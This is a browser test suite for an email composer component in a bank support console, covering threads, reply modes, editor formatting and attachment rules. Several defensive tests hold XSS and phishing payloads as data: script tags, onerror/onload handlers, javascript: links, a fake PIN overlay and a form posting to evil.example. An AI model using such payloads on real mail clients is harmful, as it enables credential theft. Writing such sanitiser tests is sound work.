import { expect, fixture, html } from '@open-wc/testing';
import { sendKeys } from '@web/test-runner-commands';
import {
  CcError,
  createClient,
  DEFAULT_DIGITAL,
  memoryStorage,
  type AttachmentRules,
  type CcClient,
  type Command,
  type DigitalSettings,
  type Message,
  type StoragePort,
  type Task,
} from '@cc-elements/core';
import type { TestAdapter } from '@cc-elements/core/testing';
import { createSimAdapter, SCENARIOS, type SimScenario } from '@cc-elements/adapter-sim';
import '../cc-email-composer.js';
import type { CcEmailComposer, DraftSavedDetail, EmailErrorDetail, EmailSentDetail } from './email-composer.js';
import { DRAFT_DEBOUNCE_MS } from './email-composer.js';
import { ManualTime, scriptedClient, settle, shadow, shadowAll } from '../../test/helpers.js';

// ---- the world ---------------------------------------------------------------------------------------

const RULES: AttachmentRules = {
  maxSizeBytes: 1024 * 1024,
  maxCount: 2,
  formats: ['pdf', 'png', 'txt'],
  pciBlockedFormats: ['exe'],
  pciNamePatterns: ['\\d{13,16}'],
};

const DIGITAL: DigitalSettings = {
  ...DEFAULT_DIGITAL,
  attachments: { email: RULES },
  templates: [
    {
      id: 't-thanks',
      name: 'Thanks',
      group: 'Courtesy',
      body: 'Dear {{system.customerName}},\nThank you for {{topic}}. Your reference is {{reference}}.\nRegards',
    },
    { id: 't-legal', name: 'Legal notice', group: 'Legal', body: 'This message is confidential.', locked: true },
    { id: 't-sms', name: 'SMS only', group: 'Courtesy', body: 'Hi', media: ['sms'] },
  ],
  workflows: [
    { id: 'wf-refund', name: 'Refund', parameters: [{ id: 'amount', label: 'Amount', required: true }] },
    { id: 'wf-crm', name: 'Log in CRM', parameters: [] },
  ],
};

const CUSTOMER = [
  { id: 'name', label: 'Name', value: 'Maria Ionescu' },
  { id: 'email', label: 'Email', value: 'maria@example.com' },
  { id: 'account', label: 'Account number', value: 'RO-4432' },
  { id: 'address', label: 'Address', value: '12 Strada Lungă, Brașov' },
  { id: 'question', label: 'Question', value: 'Card blocked abroad' },
];

function emailTask(over: Partial<Task> = {}): Task {
  return {
    id: 'em-1',
    media: 'email',
    status: 'active',
    since: 0,
    startedAt: 0,
    customerName: 'Maria Ionescu',
    queueId: 'q-mail',
    queueName: 'Cards',
    customer: CUSTOMER,
    ...over,
  };
}

const MINUTE = 60_000;

function received(id: string, at: number, over: Partial<Message> = {}, headers: Partial<NonNullable<Message['email']>> = {}): Message {
  return {
    id,
    taskId: 'em-1',
    author: 'customer',
    authorName: 'Maria Ionescu',
    at,
    html: `<p>Message ${id}</p>`,
    email: {
      from: 'maria@example.com',
      to: ['cards@bank.example'],
      cc: ['ion@example.com'],
      subject: 'Card blocked',
      kind: 'received',
      ...headers,
    },
    ...over,
  };
}

const THREAD: readonly Message[] = [
  received('m1', 1 * MINUTE, {
    html: '<p>My card is blocked.</p><blockquote type="cite"><p>Old quoted text</p></blockquote>',
    attachments: [
      { id: 'a1', name: 'statement.pdf', size: 2048, type: 'application/pdf', url: 'https://files.example/a1' },
      { id: 'a2', name: 'card-4111111111111111.png', size: 4096, type: 'image/png', url: 'https://files.example/a2' },
    ],
  }),
  {
    id: 'm2',
    taskId: 'em-1',
    author: 'agent',
    authorName: 'Test Agent',
    at: 2 * MINUTE,
    html: '<p>We are looking into it.</p>',
    receipt: 'delivered',
    email: { from: 'cards@bank.example', to: ['maria@example.com'], cc: [], subject: 'Re: Card blocked', kind: 'sent' },
  },
  {
    id: 'm3',
    taskId: 'em-1',
    author: 'system',
    at: 3 * MINUTE,
    text: 'Delivery to ion@example.com failed.',
    email: { from: 'mailer-daemon@example.com', to: ['cards@bank.example'], cc: [], subject: 'Undeliverable', kind: 'deliveryReport' },
  },
  received('m4', 4 * MINUTE, { html: '<p>Any news?</p>' }, { subject: 'RE: Card blocked' }),
];

interface Setup {
  readonly el: CcEmailComposer;
  readonly client: CcClient;
  readonly adapter: TestAdapter;
  readonly time: ManualTime | undefined;
  readonly events: { type: string; detail: unknown }[];
}

interface SetupOptions {
  readonly task?: Task;
  readonly messages?: readonly Message[];
  readonly digital?: Partial<DigitalSettings>;
  readonly time?: ManualTime;
  readonly storage?: StoragePort;
  readonly mode?: 'reply' | 'replyAll' | 'forward';
  readonly respond?: (command: Command) => void | Promise<void>;
  /** Wait for the editor (the lazy module) before returning. */
  readonly editor?: boolean;
}

const EVENTS = ['cc-email-sent', 'cc-email-error', 'cc-draft-saved'] as const;

/** The composer on a scripted backend with one email conversation whose thread loads at once. */
async function setup(options: SetupOptions = {}): Promise<Setup> {
  const time = options.time;
  const { client, adapter } = scriptedClient({
    ...(time ? { scheduler: time.scheduler } : {}),
    storage: options.storage ?? memoryStorage(),
    tenant: { media: ['email'], digital: { ...DIGITAL, ...options.digital } },
  });
  const messages = options.messages ?? THREAD;
  adapter.respond(async (command) => {
    if (command.type === 'thread.load') adapter.emit({ type: 'thread.loaded', taskId: command.taskId, messages });
    await options.respond?.(command);
  });
  adapter.emit({ type: 'task.updated', task: options.task ?? emailTask() });
  const el = await fixture<CcEmailComposer>(
    html`<cc-email-composer
      .client=${client}
      task-id=${(options.task ?? emailTask()).id}
      mode=${options.mode ?? 'reply'}
    ></cc-email-composer>`,
  );
  const events: Setup['events'] = [];
  for (const type of EVENTS) el.addEventListener(type, (e) => events.push({ type, detail: (e as CustomEvent).detail }));
  await settle();
  if (options.editor !== false && (options.task?.status ?? 'active') === 'active') await editorReady(el);
  return { el, client, adapter, time, events };
}

async function editorReady(el: CcEmailComposer): Promise<HTMLElement> {
  for (let i = 0; i < 100; i++) {
    const editor = el.shadowRoot!.querySelector<HTMLElement>('[part="editor"]');
    if (editor) {
      await el.updateComplete;
      return editor;
    }
    await new Promise((r) => setTimeout(r, 20));
  }
  throw new Error('The editor did not load');
}

/** What a person reads: rendered text, blocks and cells separated. */
const words = (node: Element | null | undefined) => ((node as HTMLElement | null)?.innerText ?? '').replace(/\s+/g, ' ').trim();
const field = (el: Element, name: 'to' | 'cc' | 'subject') => shadow<HTMLInputElement>(el, `#field-${name}`);
const editorOf = (el: Element) => shadow<HTMLElement>(el, '[part="editor"]');
const button = (el: Element, selector: string) => shadow<HTMLButtonElement>(el, selector);

async function click(el: CcEmailComposer, selector: string): Promise<void> {
  button(el, selector).click();
  await settle();
  await el.updateComplete;
}

async function typeInField(el: CcEmailComposer, name: 'to' | 'cc' | 'subject', value: string): Promise<void> {
  const input = field(el, name);
  input.focus();
  input.value = value;
  input.dispatchEvent(new Event('input', { bubbles: true, composed: true }));
  input.dispatchEvent(new FocusEvent('blur'));
  await el.updateComplete;
}

/** Types into the body with the real keyboard. */
async function typeInBody(el: CcEmailComposer, text: string): Promise<void> {
  editorOf(el).focus();
  await sendKeys({ type: text });
  await el.updateComplete;
}

// EM-4 lazy loading: every script fetched from here on (the page's resource buffer fills up with the test's own modules).
const fetched: string[] = [];
new PerformanceObserver((list) => fetched.push(...list.getEntries().map((e) => e.name))).observe({ type: 'resource' });
const prosemirrorFetched = async () => {
  await new Promise((r) => setTimeout(r, 50));
  return fetched.some((name) => name.includes('prosemirror-'));
};

/** The static import graph of the project's own modules, as the test server serves them (dynamic import() excluded). */
async function staticImports(url: string, seen = new Set<string>()): Promise<string[]> {
  if (seen.has(url) || url.includes('/node_modules/')) return [];
  seen.add(url);
  let response = await fetch(url);
  // The test server serves TypeScript sources under their own names.
  if (!response.ok && url.endsWith('.js')) response = await fetch(url.replace(/\.js$/, '.ts'));
  const code = await response.text();
  const specifiers = [...code.matchAll(/(?:^|[;\n])\s*(?:import|export)\s*(?:[\w*{}\s,$]+\s+from\s*)?["']([^"']+)["']/g)].map((m) => m[1]!);
  const nested = await Promise.all(specifiers.map((s) => staticImports(new URL(s, url).href, seen)));
  return [...specifiers, ...nested.flat()];
}

// ---- tests -------------------------------------------------------------------------------------------

describe('<cc-email-composer>', () => {
  // First in the file: nothing before it may have shown a composer.
  it('EM-4: the editor (ProseMirror) is a lazy import, fetched only once a composer is shown', async () => {
    const graph = await staticImports(new URL('../cc-email-composer.ts', import.meta.url).href);
    expect(graph.length, 'the graph was read').to.be.greaterThan(10);
    expect(
      graph.filter((s) => s.includes('prosemirror') || s.includes('email-editor')),
      'no static import of the editor',
    ).to.deep.equal([]);
    const { el } = await setup({ task: emailTask({ status: 'offered', offerExpiresAt: 60_000 }), editor: false });
    expect(await prosemirrorFetched(), 'an offer shows no composer, so no editor').to.equal(false);
    el.remove();
    await setup();
    expect(await prosemirrorFetched(), 'a composer fetches the editor').to.equal(true);
  });

  it('EM-1: an offered email shows the customer name, email, account number, address and question, and Accept', async () => {
    const time = new ManualTime();
    const { el, adapter } = await setup({ time, task: emailTask({ status: 'offered', offerExpiresAt: 60_000 }), editor: false });
    expect(words(shadow(el, '[part="countdown"]'))).to.equal('1:00 left');
    const details = shadowAll(el, '[part="customer"] div').map(words);
    expect(details).to.deep.equal([
      'Name Maria Ionescu',
      'Email maria@example.com',
      'Account number RO-4432',
      'Address 12 Strada Lungă, Brașov',
      'Question Card blocked abroad',
    ]);
    expect(words(shadow(el, '#offer-heading'))).to.equal('New email · Cards');
    expect(words(shadow(el, '[role="status"][aria-live="polite"]'))).to.equal('New email from Maria Ionescu, queue Cards.');
    await expect(el).to.be.accessible();
    await click(el, '[part="accept"]');
    expect(adapter.commands.some((c) => c.type === 'task.accept' && c.taskId === 'em-1')).to.equal(true);
  });

  it('EM-2: the thread shows each email newest first with from, subject, time and state; a delivery report as such', async () => {
    const { el } = await setup();
    const emails = shadowAll(el, '[part~="email"]');
    expect(emails.map((e) => e.dataset['messageId'])).to.deep.equal(['m4', 'm3', 'm2', 'm1']);
    expect(emails.map((e) => words(e.querySelector('[part="state"]')))).to.deep.equal([
      'Received',
      'Delivery report',
      'Delivered',
      'Received',
    ]);
    expect(words(emails[0]!.querySelector('[part="from"]'))).to.equal('maria@example.com');
    expect(words(emails[0]!.querySelector('[part="subject"]'))).to.equal('RE: Card blocked');
    expect(emails[0]!.querySelector('time')?.getAttribute('datetime')).to.equal(new Date(4 * MINUTE).toISOString());
    // The newest is open with its addresses; the others are one line each.
    expect(emails.map((e) => e.dataset['expanded'])).to.deep.equal(['true', 'false', 'false', 'false']);
    expect(words(emails[0]!.querySelector('[part="addresses"]'))).to.equal(
      'From maria@example.com To cards@bank.example Cc ion@example.com Subject RE: Card blocked',
    );
    await expect(el).to.be.accessible();
  });

  it('EM-2: each email and its quoted history expand and collapse; received attachments download', async () => {
    const { el } = await setup();
    const oldest = () => shadow(el, '[data-message-id="m1"]');
    const toggle = oldest().querySelector<HTMLButtonElement>('[part="email-toggle"]')!;
    expect(toggle.getAttribute('aria-expanded')).to.equal('false');
    toggle.click();
    await el.updateComplete;
    expect(oldest().dataset['expanded']).to.equal('true');
    const body = oldest().querySelector<HTMLElement>('[part="body"]')!;
    const quote = body.shadowRoot!.querySelector('blockquote')!;
    expect(getComputedStyle(quote).display, 'history hidden at first').to.equal('none');
    const dots = oldest().querySelector<HTMLButtonElement>('[part="history-toggle"]')!;
    expect(dots.textContent!.trim()).to.equal('…');
    dots.click();
    await el.updateComplete;
    expect(getComputedStyle(quote).display).to.equal('block');
    expect(dots.getAttribute('aria-expanded')).to.equal('true');
    const download = oldest().querySelector<HTMLAnchorElement>('a[part="attachment"]')!;
    expect(download.href).to.equal('https://files.example/a1');
    expect(download.getAttribute('download')).to.equal('statement.pdf');
    expect(words(download)).to.equal('📎 statement.pdf 2 kB (download)');
    toggle.click();
    await el.updateComplete;
    expect(oldest().dataset['expanded']).to.equal('false');
    await expect(el).to.be.accessible();
  });

  it('EM-2/EM-6: of two emails at the same moment, the one that arrived later is on top', async () => {
    const { el } = await setup({ messages: [received('first', MINUTE), received('second', MINUTE)] });
    expect(shadowAll(el, '[part~="email"]').map((e) => e.dataset['messageId'])).to.deep.equal(['second', 'first']);
  });

  it('EM-2: "…" shows the older emails beyond the first five', async () => {
    const many = Array.from({ length: 7 }, (_, i) => received(`m${i + 1}`, (i + 1) * MINUTE));
    const { el } = await setup({ messages: many });
    expect(shadowAll(el, '[part~="email"]')).to.have.length(5);
    expect(button(el, '[part="show-earlier"]').getAttribute('aria-label')).to.equal('Show 2 earlier messages');
    await click(el, '[part="show-earlier"]');
    expect(shadowAll(el, '[part~="email"]')).to.have.length(7);
  });

  // ---- EM-3 -----------------------------------------------------------------------------------------

  const MARIA = 'maria@example.com';
  const ION = 'ion@example.com';

  /** What each mode starts with for the thread above (the last email is m4; cards@bank.example is "me"). */
  const INITIAL = [
    { mode: 'reply', to: MARIA, cc: '', subject: 'Re: Card blocked', readOnly: true, ccShown: false },
    { mode: 'replyAll', to: MARIA, cc: ION, subject: 'Re: Card blocked', readOnly: true, ccShown: true },
    { mode: 'forward', to: '', cc: '', subject: 'Fwd: Card blocked', readOnly: false, ccShown: true },
  ] as const;

  for (const start of INITIAL) {
    it(`EM-3: ${start.mode} starts with To “${start.to}”, Cc “${start.cc}”, Subject “${start.subject}”`, async () => {
      const { el } = await setup({ mode: start.mode });
      expect(field(el, 'to').value).to.equal(start.to);
      expect(field(el, 'cc').value).to.equal(start.cc);
      expect(field(el, 'subject').value).to.equal(start.subject);
      expect(field(el, 'to').readOnly, 'To read-only').to.equal(start.readOnly);
      expect(field(el, 'subject').readOnly, 'Subject read-only').to.equal(start.readOnly);
      expect(field(el, 'cc').readOnly, 'Cc is always editable').to.equal(false);
      expect(shadow(el, '#cc-row').hidden, 'Cc hidden').to.equal(!start.ccShown);
      if (start.readOnly)
        expect(getComputedStyle(field(el, 'to')).backgroundColor).to.not.equal(getComputedStyle(field(el, 'cc')).backgroundColor);
      expect(shadow(el, `[part="mode"][data-mode="${start.mode}"]`).getAttribute('aria-pressed')).to.equal('true');
      const body = words(editorOf(el));
      if (start.mode === 'forward') {
        expect(body, 'Forward loads the last email').to.contain('---------- Forwarded message ----------');
        expect(body).to.contain('From: maria@example.com');
        expect(body).to.contain('Any news?');
      } else expect(body).to.equal('');
      await expect(el).to.be.accessible();
    });
  }

  /** EM-3: every switch, with the fields it leads to; the body typed before is always kept. */
  const SWITCHES = [
    { from: 'reply', to: 'replyAll', fields: { to: MARIA, cc: ION }, readOnly: true, ccShown: true },
    { from: 'reply', to: 'forward', fields: { to: '', cc: '' }, readOnly: false, ccShown: true },
    { from: 'replyAll', to: 'forward', fields: { to: '', cc: '' }, readOnly: false, ccShown: true },
    { from: 'replyAll', to: 'reply', fields: { to: MARIA, cc: '' }, readOnly: true, ccShown: false },
    { from: 'forward', to: 'reply', fields: { to: MARIA, cc: '' }, readOnly: true, ccShown: false },
    { from: 'forward', to: 'replyAll', fields: { to: MARIA, cc: ION }, readOnly: true, ccShown: true },
  ] as const;

  it('EM-3: every mode switch fills or clears To and Cc as the rule says and keeps the body', async () => {
    for (const step of SWITCHES) {
      const { el } = await setup({ mode: step.from });
      if (step.from === 'forward') {
        await typeInField(el, 'to', 'someone@example.org');
        await typeInField(el, 'cc', 'other@example.org');
      }
      await typeInBody(el, 'Hello there');
      const before = words(editorOf(el));
      await click(el, `[part="mode"][data-mode="${step.to}"]`);
      const what = `${step.from} → ${step.to}`;
      expect(field(el, 'to').value, `${what}: To`).to.equal(step.fields.to);
      expect(field(el, 'cc').value, `${what}: Cc`).to.equal(step.fields.cc);
      expect(field(el, 'to').readOnly, `${what}: To read-only`).to.equal(step.readOnly);
      expect(shadow(el, '#cc-row').hidden, `${what}: Cc hidden`).to.equal(!step.ccShown);
      expect(field(el, 'subject').value, `${what}: Subject`).to.equal(step.to === 'forward' ? 'Fwd: Card blocked' : 'Re: Card blocked');
      expect(words(editorOf(el)), `${what}: body kept`).to.equal(before);
      expect(before).to.contain('Hello there');
      el.remove();
    }
  });

  it('EM-3: in Reply all the Cc field can be hidden and shown again, keeping its addresses', async () => {
    const { el } = await setup({ mode: 'replyAll' });
    const toggle = button(el, '[part="cc-toggle"]');
    expect(words(toggle)).to.equal('Hide Cc');
    await click(el, '[part="cc-toggle"]');
    expect(shadow(el, '#cc-row').hidden).to.equal(true);
    expect(words(button(el, '[part="cc-toggle"]'))).to.equal('Cc (1)');
    expect(button(el, '[part="cc-toggle"]').getAttribute('aria-expanded')).to.equal('false');
    await click(el, '[part="cc-toggle"]');
    expect(field(el, 'cc').value).to.equal(ION);
  });

  // ---- EM-8, EM-4 sending ----------------------------------------------------------------------------

  it('EM-8: Send waits for a valid To; invalid addresses are named inline', async () => {
    const { el } = await setup({ mode: 'forward' });
    const send = () => button(el, '[part="send"]');
    expect(send().disabled).to.equal(true);
    expect(words(shadow(el, '[part="send-hint"]'))).to.equal('Add at least one valid address in To to send.');
    expect(send().getAttribute('aria-describedby')).to.equal('send-hint');
    await typeInField(el, 'to', 'bob@example.org, not-an-address');
    expect(field(el, 'to').getAttribute('aria-invalid')).to.equal('true');
    expect(words(shadow(el, '#to-error'))).to.equal('Not an email address: not-an-address');
    expect(send().disabled).to.equal(true);
    expect(words(shadow(el, '[part="send-hint"]'))).to.equal('Correct the addresses marked in red to send.');
    await typeInField(el, 'to', 'bob@example.org');
    expect(send().disabled).to.equal(false);
    expect(el.shadowRoot!.querySelector('#to-error')).to.equal(null);
    await expect(el).to.be.accessible();
  });

  it('EM-8/EM-4: Send sends the HTML serialised from the editor, the fields and the mode, then starts afresh', async () => {
    const { el, adapter, events } = await setup({ mode: 'replyAll' });
    await typeInBody(el, 'Your card ');
    await sendKeys({ down: 'Control' });
    await sendKeys({ press: 'b' });
    await sendKeys({ up: 'Control' });
    await sendKeys({ type: 'works' });
    await click(el, '[part="send"]');
    const sent = adapter.commands.find((c) => c.type === 'message.send');
    expect(sent, 'message.send').to.not.equal(undefined);
    const message = (sent as Extract<Command, { type: 'message.send' }>).message;
    expect(message.html).to.equal('<p>Your card <strong>works</strong></p>');
    expect(message.text).to.equal('Your card works');
    expect(message.email).to.deep.equal({ to: [MARIA], cc: [ION], subject: 'Re: Card blocked', mode: 'replyAll' });
    expect(events.find((e) => e.type === 'cc-email-sent')?.detail).to.deep.equal({
      taskId: 'em-1',
      mode: 'replyAll',
      to: [MARIA],
      cc: [ION],
      subject: 'Re: Card blocked',
    } satisfies EmailSentDetail);
    expect(words(editorOf(el))).to.equal('');
    expect(shadow(el, '[data-message-id^="local-"]').dataset['state'], 'shown at once as sending').to.equal('sending');
  });

  it('EM-8: a refused send keeps the body and says why, with the trace id', async () => {
    const { el, events } = await setup({
      respond: (command) => {
        if (command.type === 'message.send') throw new CcError('api', 'The mail server is down.', { traceId: 'tr-42' });
      },
    });
    await typeInBody(el, 'Keep me');
    await click(el, '[part="send"]');
    expect(words(shadow(el, '[part="error"]'))).to.equal('The mail server is down. Trace id: tr-42 ×');
    expect(words(editorOf(el))).to.equal('Keep me');
    const error = events.find((e) => e.type === 'cc-email-error')?.detail as EmailErrorDetail;
    expect(error).to.deep.include({ taskId: 'em-1', action: 'send', code: 'api', traceId: 'tr-42' });
    await expect(el).to.be.accessible();
  });

  // ---- EM-4 editor ----------------------------------------------------------------------------------

  const tool = (el: Element, name: string) => shadow<HTMLButtonElement>(el, `[part~="tool"][data-tool="${name}"]`);

  it('EM-4: the toolbar is labelled, one Tab stop with arrow keys inside, and shows pressed states', async () => {
    const { el } = await setup();
    const toolbar = shadow(el, '[part="toolbar"]');
    expect(toolbar.getAttribute('role')).to.equal('toolbar');
    expect(toolbar.getAttribute('aria-label')).to.equal('Formatting');
    const names = shadowAll(el, '[part="toolbar"] [part~="tool"]').map((b) => words(b.querySelector('.visually-hidden')) || words(b));
    expect(names).to.deep.equal([
      'Heading 1',
      'Bold',
      'Italic',
      'Underline',
      'Strikethrough',
      'Font colour',
      'Numbered list',
      'Bulleted list',
      'Block quote',
      'Emoji',
      'Link',
      'Decrease indent',
      'Increase indent',
      'Insert table',
      '📎 Attach',
      'Templates',
      'Workflows',
    ]);
    expect(shadowAll(el, '[part="toolbar"] [tabindex="0"]')).to.have.length(1);
    tool(el, 'heading').focus();
    await sendKeys({ press: 'ArrowRight' });
    await el.updateComplete;
    expect(el.shadowRoot!.activeElement?.getAttribute('data-tool')).to.equal('bold');
    await sendKeys({ press: 'End' });
    await el.updateComplete;
    expect(el.shadowRoot!.activeElement?.getAttribute('data-tool')).to.equal('workflows');
    await sendKeys({ press: 'ArrowRight' });
    expect(el.shadowRoot!.activeElement?.getAttribute('data-tool'), 'wraps around').to.equal('heading');
    expect(shadowAll(el, '[part="toolbar"] [tabindex="0"]').map((b) => b.dataset['tool'])).to.deep.equal(['heading']);

    await typeInBody(el, 'Bold words');
    await sendKeys({ down: 'Shift' });
    for (let i = 0; i < 5; i++) await sendKeys({ press: 'ArrowLeft' });
    await sendKeys({ up: 'Shift' });
    tool(el, 'bold').click();
    await el.updateComplete;
    expect(tool(el, 'bold').getAttribute('aria-pressed')).to.equal('true');
    expect(tool(el, 'italic').getAttribute('aria-pressed')).to.equal('false');
    expect(editorOf(el).querySelector('strong')?.textContent).to.equal('words');
    await expect(el).to.be.accessible();
  });

  it('EM-4: every formatting command produces its HTML from the schema', async () => {
    const { el, adapter } = await setup();
    const use = async (name: string) => {
      tool(el, name).click();
      await el.updateComplete;
    };
    const press = (key: string) => sendKeys({ press: key });
    await typeInBody(el, 'Title');
    await use('heading');
    await press('Enter');
    for (const name of ['italic', 'underline', 'strike']) {
      await use(name);
      await sendKeys({ type: name });
      await use(name);
    }
    await press('Enter');
    await use('color');
    shadow<HTMLButtonElement>(el, '[part="panel"] .swatch[aria-label="Red"]').click();
    await sendKeys({ type: 'red' });
    await press('Enter');
    await use('orderedList');
    await sendKeys({ type: 'one' });
    await press('Enter');
    await press('Enter');
    await use('bulletList');
    await sendKeys({ type: 'dot' });
    await press('Enter');
    await press('Enter');
    await use('blockquote');
    await sendKeys({ type: 'quoted' });
    await press('Enter');
    await use('blockquote');
    await use('indent');
    await use('indent');
    await use('outdent');
    await sendKeys({ type: 'moved' });
    await use('emoji');
    shadow<HTMLButtonElement>(el, '[part="panel"] [aria-label="thumbs up"]').click();
    await el.updateComplete;
    await press('Enter');
    await use('table');
    await sendKeys({ type: 'cell' });
    await el.updateComplete;
    await typeInField(el, 'to', MARIA);
    await click(el, '[part="send"]');
    const sent = adapter.commands.find((c) => c.type === 'message.send') as Extract<Command, { type: 'message.send' }>;
    expect(sent.message.html).to.equal(
      '<h1>Title</h1>' +
        '<p><em>italic</em><u>underline</u><s>strike</s></p>' +
        '<p><span style="color: rgb(198, 40, 40);">red</span></p>' +
        '<ol><li><p>one</p></li></ol>' +
        '<ul><li><p>dot</p></li></ul>' +
        '<blockquote style="margin: 0px 0px 0px 0.8ex; border-left: 2px solid rgb(204, 204, 204); padding-left: 1ex;"><p>quoted</p></blockquote>' +
        '<p style="margin-left: 40px;">moved👍</p>' +
        '<table><tbody><tr><td><p>cell</p></td><td><p></p></td><td><p></p></td></tr><tr><td><p></p></td><td><p></p></td><td><p></p></td></tr><tr><td><p></p></td><td><p></p></td><td><p></p></td></tr></tbody></table>',
    );
  });

  it('EM-4: a link takes only http, https or mailto addresses', async () => {
    const { el } = await setup();
    await typeInBody(el, 'see ');
    tool(el, 'link').click();
    await el.updateComplete;
    expect(tool(el, 'link').getAttribute('aria-expanded')).to.equal('true');
    const url = shadow<HTMLInputElement>(el, '#link-url');
    expect(el.shadowRoot!.activeElement).to.equal(url);
    url.value = 'javascript:alert(1)';
    url.dispatchEvent(new Event('input'));
    shadow<HTMLFormElement>(el, 'form[part="panel"]').requestSubmit();
    await el.updateComplete;
    expect(words(shadow(el, '#link-error'))).to.equal('Use a web address starting with http:// or https://, or a mailto: address.');
    expect(editorOf(el).querySelector('a')).to.equal(null);
    await expect(el).to.be.accessible();
    url.value = 'https://bank.example/help';
    url.dispatchEvent(new Event('input'));
    shadow<HTMLFormElement>(el, 'form[part="panel"]').requestSubmit();
    await el.updateComplete;
    const link = editorOf(el).querySelector('a')!;
    expect(link.getAttribute('href')).to.equal('https://bank.example/help');
    expect(link.textContent).to.equal('https://bank.example/help');
    expect(el.shadowRoot!.querySelector('[part="panel"]')).to.equal(null);
  });

  it('EM-4: pasted HTML is read through the schema: scripts, handlers, unsafe links and remote images are gone', async () => {
    const { el } = await setup();
    window.ccPwned = undefined;
    editorOf(el).focus();
    const data = new DataTransfer();
    data.setData(
      'text/html',
      `<p onclick="window.ccPwned=1">Hello <b>bold</b> <a href="javascript:window.ccPwned=1">bad</a> <a href="https://ok.example">ok</a></p>` +
        `<script>window.ccPwned=1</script><img src="https://tracker.example/p.png"><style>p{color:red}</style><iframe src="https://x.example"></iframe>`,
    );
    data.setData('text/plain', 'Hello bold bad ok');
    editorOf(el).dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
    await el.updateComplete;
    await new Promise((r) => setTimeout(r, 50));
    expect(window.ccPwned).to.equal(undefined);
    const body = editorOf(el);
    expect(body.querySelector('strong')?.textContent).to.equal('bold');
    expect([...body.querySelectorAll('a')].map((a) => a.getAttribute('href'))).to.deep.equal(['https://ok.example']);
    expect(body.querySelector('img, script, iframe, style, [onclick]')).to.equal(null);
  });

  it('EM-4/PL-6: pasted colours and indents survive — inline styles and the paste’s own style sheet (parsed without style attributes, set through the CSSOM)', async () => {
    const { el } = await setup();
    editorOf(el).focus();
    const data = new DataTransfer();
    data.setData(
      'text/html',
      `<style>.warn { color: #b91c1c }</style>` +
        `<p>first</p><p style="margin-left: 80px">moved <span class="warn">warned</span> <span style="color: rgb(21, 128, 61)">green</span></p><p>last</p>`,
    );
    data.setData('text/plain', 'first\nmoved warned green\nlast');
    editorOf(el).dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
    await el.updateComplete;
    const body = editorOf(el);
    const colours = [...body.querySelectorAll('span')].map((s) => [s.textContent, s.style.color]);
    expect(colours).to.deep.equal([
      ['warned', 'rgb(185, 28, 28)'],
      ['green', 'rgb(21, 128, 61)'],
    ]);
    expect([...body.querySelectorAll('p')].map((p) => [p.textContent, p.style.marginLeft])).to.deep.include(['moved warned green', '80px']);
  });

  // ---- EM-4 inbound HTML in the thread ------------------------------------------------------------------

  it('EM-4: a hostile email runs nothing, loads nothing remote until "Show images", and stays in its box', async () => {
    window.ccPwned = undefined;
    const tracker = `${location.origin}/package.json?email-tracker=${Math.random().toString(36).slice(2)}`;
    const hostile = received('evil', 5 * MINUTE, {
      html:
        `<script>(window.ccPwned=window.ccPwned||[]).push('script')</script>` +
        `<img src="x" onerror="(window.ccPwned=window.ccPwned||[]).push('onerror')">` +
        `<a href="javascript:(window.ccPwned=window.ccPwned||[]).push('link')">Claim your refund</a>` +
        `<svg onload="(window.ccPwned=window.ccPwned||[]).push('svg')"></svg>` +
        `<img src="${tracker}" alt="Bank logo">` +
        `<div style="position:fixed;inset:0;z-index:99999;background:#8b0000;color:#fff">Enter your PIN</div>` +
        `<form action="https://evil.example"><input name="pin"></form>`,
    });
    const { el } = await setup({ messages: [...THREAD, hostile] });
    await new Promise((r) => setTimeout(r, 150));
    const email = shadow(el, '[data-message-id="evil"]');
    const root = email.querySelector<HTMLElement>('[part="body"]')!.shadowRoot!;
    root.querySelector<HTMLAnchorElement>('a')?.click();
    expect(window.ccPwned).to.equal(undefined);
    expect(root.querySelector('script, svg, form, input, [onerror]')).to.equal(null);
    expect(fetched.includes(tracker)).to.equal(false);
    expect(['static', 'relative']).to.include(getComputedStyle(root.querySelector('div[style]')!).position);
    const corner = document.elementFromPoint(1, 1);
    expect(corner === el || el.contains(corner), 'nothing of the email covers the page corner').to.equal(false);
    expect(words(email.querySelector('[part="images-blocked"]'))).to.equal(
      'Remote images are hidden (1) to protect your privacy. Show images',
    );
    await expect(el).to.be.accessible();

    email.querySelector<HTMLButtonElement>('[part="show-images"]')!.click();
    await el.updateComplete;
    await new Promise((r) => setTimeout(r, 150));
    expect(fetched.includes(tracker), 'loaded once allowed').to.equal(true);
    expect(email.querySelector('[part="images-blocked"]')).to.equal(null);
    expect(window.ccPwned).to.equal(undefined);
  });

  // ---- EM-5 attachments ----------------------------------------------------------------------------

  const file = (name: string, size = 100, type = 'application/pdf') => new File([new Uint8Array(size)], name, { type });

  async function pick(el: CcEmailComposer, files: readonly File[]): Promise<void> {
    const input = shadow<HTMLInputElement>(el, 'input[type="file"]');
    const data = new DataTransfer();
    for (const f of files) data.items.add(f);
    input.files = data.files;
    input.dispatchEvent(new Event('change'));
    await el.updateComplete;
  }

  it('EM-5: files are checked against the backend rules, one reason each; previews show name and size; × removes', async () => {
    const { el } = await setup();
    expect(words(shadow(el, '.limits'))).to.equal('Up to 2 files of 1 MB each. Formats: pdf, png, txt. Drop files here or use Attach.');
    await pick(el, [
      file('virus.exe'),
      file('photo.gif'),
      file('big.pdf', 2 * 1024 * 1024),
      file('card 4111111111111111.pdf'),
      file('letter.pdf', 1536),
    ]);
    expect(shadowAll(el, '[part="refusals"] li').map(words)).to.deep.equal([
      '“virus.exe” was removed: it fails the PCI rule (files that may hold card data cannot be sent).',
      '“photo.gif” is not an allowed format. Allowed: pdf, png, txt.',
      '“big.pdf” is too large: the limit is 1 MB.',
      '“card 4111111111111111.pdf” was removed: it fails the PCI rule (files that may hold card data cannot be sent).',
    ]);
    expect(shadow(el, '[part="refusals"]').parentElement!.getAttribute('role')).to.equal('alert');
    await pick(el, [file('notes.txt', 10, 'text/plain'), file('third.pdf')]);
    expect(shadowAll(el, '[part="refusals"] li').map(words)).to.deep.equal(['“third.pdf” was not added: at most 2 files per email.']);
    expect(shadowAll(el, '[part~="file"]').map(words)).to.deep.equal(['📄 letter.pdf 1.5 kB ×', '📄 notes.txt 10 bytes ×']);
    await expect(el).to.be.accessible();
    shadow<HTMLButtonElement>(el, '[part~="file"][data-file="letter.pdf"] .remove').click();
    await el.updateComplete;
